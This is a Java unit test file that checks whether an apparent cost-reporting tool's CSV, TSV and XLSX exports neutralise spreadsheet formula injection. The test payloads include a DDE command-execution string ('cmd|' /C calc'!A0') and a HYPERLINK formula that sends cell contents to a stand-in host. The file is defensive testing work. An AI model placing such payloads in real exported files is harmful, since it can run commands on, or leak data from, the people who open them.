package dev.costwright.app.trust;

import static org.assertj.core.api.Assertions.assertThat;

import dev.costwright.app.report.ReportTable;
import dev.costwright.app.report.ReportTable.Column;
import dev.costwright.app.report.ReportTable.Kind;
import dev.costwright.app.report.TableFile;
import dev.costwright.importers.SourceFile;
import dev.costwright.importers.table.Table;
import dev.costwright.model.money.Money;
import dev.costwright.model.problem.Problem;
import java.io.IOException;
import java.io.InputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Currency;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import java.util.zip.ZipFile;
import javax.xml.parsers.DocumentBuilderFactory;
import javax.xml.parsers.ParserConfigurationException;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.xml.sax.SAXException;

/// Names made to run as formulas where our exports are opened. Long form, with LibreOffice:
/// `-Dtrust.office=1`.
class ExportedFormulasTest {
  private static final List<String> STARTS =
      List.of("=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "'=", "''=");

  private static final List<String> BODIES =
      List.of("1+1", "HYPERLINK(\"http://x.example/?\"&A1,\"see\")", "cmd|' /C calc'!A0");

  private static final List<String> MORE =
      List.of("-5", "=\"a\",\"b\"", "+49 30 1234", "@SUM(1,2)", "=1;2", "\"=1+1\"");

  private static final BigDecimal NEGATIVE = new BigDecimal("-12.34");

  @TempDir private Path temp;

  @Test
  void triesMoreThanFortyPayloads() {
    assertThat(payloads()).hasSizeGreaterThan(40).doesNotHaveDuplicates();
  }

  @ParameterizedTest
  @ValueSource(strings = {"csv", "tsv"})
  void marksEveryTextAndNoNumberAndReadsItBack(String ending) throws IOException {
    Path file = write(ending);
    List<String> raw = new ArrayList<>();
    List<String> read = new ArrayList<>();
    Table table = Table.of(SourceFile.of(file));

    table.forEachRow(
        new NoProblems(),
        row -> {
          read.add(row.text(table.header().needed("name")));
          raw.add(row.text(table.header().needed("amount")));
        });

    assertThat(read).isEqualTo(payloads().stream().map(String::strip).toList());
    assertThat(raw).containsOnly("-12.34");
    assertThat(Files.readString(file))
        .contains("'=1+1", "'＠1+1", "'''=1+1")
        .doesNotContain("'-12.34");
  }

  @Test
  void writesAWorkbookOfTypedCellsWithoutAFormula()
      throws IOException, ParserConfigurationException, SAXException {
    String sheet = entry(write("xlsx"), "xl/worksheets/sheet1.xml");

    var document =
        DocumentBuilderFactory.newInstance()
            .newDocumentBuilder()
            .parse(new java.io.ByteArrayInputStream(sheet.getBytes(StandardCharsets.UTF_8)));
    assertThat(document.getElementsByTagName("f").getLength()).isZero();
    assertThat(document.getElementsByTagName("c").getLength())
        .isGreaterThanOrEqualTo(2 * payloads().size());
    assertThat(sheet).containsPattern("<v>-12\\.340*</v>");
  }

  @Test
  void writesAWorkbookThatOpensWhateverControlCharactersANameHolds()
      throws IOException, ParserConfigurationException, SAXException {
    Path file = temp.resolve("controls.xlsx");
    TableFile.write(
        table(List.of("a\u0001b\u000bc\u001f", "\u202egnp", "\ufffe", "x\ud83d")), file);

    for (String part : List.of("xl/sharedStrings.xml", "xl/worksheets/sheet1.xml")) {
      DocumentBuilderFactory.newInstance()
          .newDocumentBuilder()
          .parse(
              new java.io.ByteArrayInputStream(entry(file, part).getBytes(StandardCharsets.UTF_8)));
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"csv", "tsv", "xlsx"})
  void holdsNoFormulaInLibreOffice(String ending) throws IOException, InterruptedException {
    Path office = Path.of("/usr/bin/soffice");
    Assumptions.assumeTrue(
        TrustCounts.of("office", 0) > 0 && Files.isExecutable(office), "no LibreOffice asked for");
    Path file = write(ending);
    List<String> command =
        new ArrayList<>(
            List.of(
                office.toString(),
                "-env:UserInstallation=" + temp.resolve("office").toUri(),
                "--headless",
                "--convert-to",
                "fods",
                "--outdir",
                temp.toString()));
    if (!ending.equals("xlsx")) {
      // field separator, quote, UTF-8, first line; cells as a user who accepts the defaults gets
      command.add("--infilter=CSV:" + (ending.equals("csv") ? "44" : "9") + ",34,76,1");
    }
    command.add(file.toString());

    Process run = new ProcessBuilder(command).inheritIO().start();
    assertThat(run.waitFor(120, TimeUnit.SECONDS)).isTrue();
    String sheet = Files.readString(temp.resolve("bill.fods"));

    assertThat(sheet).doesNotContain("table:formula=").contains("office:value=\"-12.34\"");
    assertThat(sheet.split("office:value=\"-12.34\"", -1)).hasSize(payloads().size() + 1);
  }

  private Path write(String ending) {
    Path file = temp.resolve("bill." + ending);
    TableFile.write(table(payloads()), file);
    return file;
  }

  private static ReportTable table(List<String> names) {
    return new ReportTable(
        "Bill",
        List.of(new Column("name", "name", Kind.TEXT), new Column("amount", "amount", Kind.MONEY)),
        names.stream()
            .map(
                name ->
                    List.<ReportTable.Cell>of(
                        new ReportTable.Text(name),
                        new ReportTable.Amount(Money.of(NEGATIVE, Currency.getInstance("USD")))))
            .toList(),
        Optional.empty());
  }

  private static List<String> payloads() {
    return Stream.concat(
            STARTS.stream().flatMap(start -> BODIES.stream().map(body -> start + body)),
            MORE.stream())
        .toList();
  }

  private static String entry(Path workbook, String name) throws IOException {
    try (ZipFile zip = new ZipFile(workbook.toFile());
        InputStream part = zip.getInputStream(zip.getEntry(name))) {
      return new String(part.readAllBytes(), StandardCharsets.UTF_8);
    }
  }

  private static final class NoProblems implements dev.costwright.importers.EntrySink {
    @Override
    public void fact(
        dev.costwright.model.usage.DataSet dataSet, dev.costwright.model.usage.Fact fact) {
      throw new AssertionError(fact);
    }

    @Override
    public void metric(dev.costwright.model.usage.Metric metric) {
      throw new AssertionError(metric);
    }

    @Override
    public void invoiceLine(dev.costwright.model.usage.InvoiceLine line) {
      throw new AssertionError(line);
    }

    @Override
    public void problem(Problem problem) {
      throw new AssertionError(problem);
    }
  }
}
